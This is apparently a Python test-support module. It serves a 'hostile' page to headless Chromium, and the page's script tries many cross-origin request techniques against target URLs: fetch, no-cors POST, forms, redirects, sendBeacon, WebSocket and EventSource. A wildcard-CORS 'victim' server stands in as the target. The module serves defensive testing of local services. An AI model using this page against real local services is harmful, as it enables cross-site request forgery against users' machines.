"""A hostile web page, the server it comes from, and the browser that shows it."""

import json
import subprocess
import threading
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from http import HTTPStatus
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Final
from urllib.parse import unquote

from tests.support.hang import join

SITE: Final = "hostile.example"
REBOUND: Final = "rebound.example"
_FLAGS: Final = (
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
    "--disable-dev-shm-usage", "--ignore-certificate-errors", "--disable-popup-blocking",
    f"--host-resolver-rules=MAP {SITE} 127.0.0.1,MAP {REBOUND} 127.0.0.1,MAP *.localhost 127.0.0.1",
)  # fmt: skip
_PAGE: Final = """<!doctype html><title>hostile</title><body><script>
const targets = TARGETS;
const outcomes = {};
const elements = {};
function attempt(name, work) {
  return Promise.race([work(), new Promise(done => setTimeout(() => done("no answer"), 3000))])
    .then(o => outcomes[name] = String(o)).catch(e => outcomes[name] = "blocked: " + e);
}
function element(tag, url) {
  return new Promise(done => {
    const one = document.createElement(tag);
    one.onload = () => done("loaded"); one.onerror = () => done("failed");
    one.src = url; document.body.append(one);
  });
}
function form(url, body, enctype, method = "POST") {
  const frame = document.createElement("iframe"); frame.name = "frame" + Math.random();
  const sent = document.createElement("form");
  sent.method = method; sent.action = url; sent.target = frame.name; sent.enctype = enctype;
  const field = document.createElement("input"); field.name = body; sent.append(field);
  document.body.append(frame, sent);
  return new Promise(done => { frame.onload = () => done("answered"); sent.submit(); });
}
async function read(url, options) {
  const answer = await fetch(url, options); const text = await answer.text();
  return "READ " + answer.status + " " + text.slice(0, 200);
}
(async () => {
  const tries = [];
  targets.forEach((url, n) => {
    const body = '{"a":"b"}';
    tries.push(attempt(n + " get", () => read(url, {})));
    tries.push(attempt(n + " get no-cors", () => fetch(url, {mode: "no-cors"}).then(() => "sent")));
    tries.push(attempt(n + " post no-cors", () => fetch(url, {mode: "no-cors", method: "POST",
      headers: {"Content-Type": "text/plain"}, body}).then(() => "sent")));
    tries.push(attempt(n + " put", () => read(url, {method: "PUT", body})));
    tries.push(attempt(n + " signed header", () => read(url, {method: "POST", body,
      headers: {"Authorization": "AWS4-HMAC-SHA256 x", "Content-Type": "application/json"}})));
    tries.push(attempt(n + " img", () => element("img", url)));
    tries.push(attempt(n + " script", () => element("script", url)));
    tries.push(attempt(n + " iframe", () => element("iframe", url)));
    for (const kind of ["text/plain", "multipart/form-data", "application/x-www-form-urlencoded"])
      tries.push(attempt(n + " form " + kind, () => form(url, body, kind)));
    tries.push(attempt(n + " form get", () => form(url, body, "text/plain", "GET")));
    tries.push(attempt(n + " stylesheet", () => new Promise(done => {
      const link = document.createElement("link"); link.rel = "stylesheet"; link.href = url;
      link.onload = () => done("READ styles"); link.onerror = () => done("failed");
      document.head.append(link);
    })));
    tries.push(attempt(n + " object", () => new Promise(done => {
      const one = document.createElement("object");
      one.onload = () => done("loaded"); one.onerror = () => done("failed");
      one.data = url; document.body.append(one);
    })));
    tries.push(attempt(n + " redirect", () => element("iframe", "/to?" + encodeURIComponent(url))));
    tries.push(attempt(n + " events", () => new Promise((done, failed) => {
      const source = new EventSource(url);
      source.onopen = () => done("OPEN"); source.onerror = () => failed("refused");
    })));
    tries.push(attempt(n + " beacon", async () => navigator.sendBeacon(url, body)));
    tries.push(attempt(n + " websocket", () => new Promise((done, failed) => {
      const socket = new WebSocket(url.replace("http", "ws"), "mqtt");
      socket.onopen = () => done("OPEN"); socket.onerror = () => failed("refused");
    })));
  });
  await Promise.all(tries);
  await fetch("/done", {method: "POST", body: JSON.stringify(outcomes)});
})();
</script>"""


class _Handler(BaseHTTPRequestHandler):
    page: bytes
    outcomes: dict[str, str]
    done: threading.Event

    def do_GET(self) -> None:
        path, _, query = self.path.partition("?")
        if path == "/to":
            self._redirect(unquote(query))
        else:
            self._say(self.page)

    def _redirect(self, url: str) -> None:
        self.send_response(HTTPStatus.TEMPORARY_REDIRECT)
        self.send_header("Location", url)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        if self.path == "/done":
            self.outcomes.update(json.loads(body))
        self._say(b"")
        self.done.set()

    def _say(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_arguments: object) -> None:
        """Say nothing."""


def shown(targets: Sequence[str], profile: Path, seconds: float = 90) -> Mapping[str, str]:
    """Show the page that attacks ``targets`` in a browser; return what came of each attempt."""
    page = _PAGE.replace("TARGETS", json.dumps(list(targets))).encode()
    outcomes: dict[str, str] = {}
    done = threading.Event()
    facts = {"page": page, "outcomes": outcomes, "done": done}
    handler = type("Handler", (_Handler,), facts)
    with (
        _serving(handler) as port,
        subprocess.Popen(
            ["chromium", *_FLAGS, f"--user-data-dir={profile}", f"http://{SITE}:{port}/"],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        ) as browser,
    ):
        try:
            assert done.wait(seconds), "the page never told what came of it"
        finally:
            browser.kill()
    return outcomes


@contextmanager
def _serving(handler: type[BaseHTTPRequestHandler]) -> Iterator[int]:
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield server.server_port
        finally:
            server.shutdown()
            join(thread)


class Victim(BaseHTTPRequestHandler):
    """A server without a door: it answers whoever comes, and lets every page read it."""

    asked: list[str]

    def do_GET(self) -> None:
        self._answer()

    def do_POST(self) -> None:
        self._answer()

    def do_PUT(self) -> None:
        self._answer()

    def do_OPTIONS(self) -> None:
        self._answer()

    def _answer(self) -> None:
        self.asked.append(f"{self.command} {self.path}")
        self.send_response(200)
        for name in ("Origin", "Methods", "Headers"):
            self.send_header(f"Access-Control-Allow-{name}", "PUT" if name == "Methods" else "*")
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *_arguments: object) -> None:
        """Say nothing."""


@contextmanager
def victim() -> Iterator[tuple[int, list[str]]]:
    """Run a server without a door; give its port, and what it was asked."""
    asked: list[str] = []
    with _serving(type("Handler", (Victim,), {"asked": asked})) as port:
        yield port, asked
